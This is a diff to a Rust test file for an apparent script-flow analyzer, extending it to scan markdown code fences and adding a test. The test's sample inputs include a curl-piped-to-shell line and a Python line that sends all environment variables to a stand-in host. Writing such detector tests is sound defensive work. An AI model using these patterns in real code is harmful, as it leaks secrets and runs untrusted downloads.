@@ -659,11 +659,41 @@ fn corpus_report() {
                 .unwrap_or(&f)
                 .to_string_lossy()
                 .to_string();
-            let Some(lang) = lang_of_file(&rel, &text) else {
+            // Scripts, and the fenced code blocks of markdown files.
+            let mut units: Vec<(Lang, String, usize)> = Vec::new();
+            if rel.ends_with(".md") {
+                let mut open: Option<(String, usize, String)> = None;
+                for (i, l) in text.lines().enumerate() {
+                    let fence = l.trim_start().starts_with("```");
+                    match open.take() {
+                        None if fence => {
+                            let info = l.trim_start().trim_start_matches('`').to_string();
+                            open = Some((info, i + 2, String::new()));
+                        }
+                        None => {}
+                        Some((info, start, body)) if fence => {
+                            if let Some(lang) = lang_of_fence(&info, &body) {
+                                units.push((lang, body, start));
+                            }
+                        }
+                        Some((info, start, mut body)) => {
+                            body.push_str(l);
+                            body.push('\n');
+                            open = Some((info, start, body));
+                        }
+                    }
+                }
+            } else if let Some(lang) = lang_of_file(&rel, &text) {
+                units.push((lang, text.clone(), 1));
+            }
+            let Some(lang) = units.first().map(|u| u.0) else {
                 continue;
             };
             scripts += 1;
-            let a = analyze(&rel, &text, lang, 1);
+            let mut a = Analysis::default();
+            for (l, body, start) in units {
+                a.extend(analyze(&rel, &body, l, start));
+            }
             if !a.flows.is_empty() {
                 with_flow += 1;
             }
@@ -680,7 +710,7 @@ fn corpus_report() {
                 );
             }
         }
-        println!("== {name}: {scripts} scripts, {with_flow} with a flow");
+        println!("== {name}: {scripts} files with code, {with_flow} with a flow");
     }
 }
 
@@ -932,4 +962,27 @@ fn more_variants() {
         }
     }
     assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn curl_flags_with_values_are_not_urls() {
+    let a = flow(
+        Lang::Shell,
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n",
+        FlowKind::DownloadToExec,
+    );
+    assert!(
+        a.flows[0].source.what.contains("https://sh.rustup.rs"),
+        "{}",
+        a.flows[0].source.what
+    );
+    let a = flow(
+        Lang::Python,
+        "import os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\n",
+        FlowKind::SecretToNetwork,
+    );
+    assert_eq!(
+        a.flows[0].sink.what,
+        "sends secret data to https://x.example"
+    );
 }
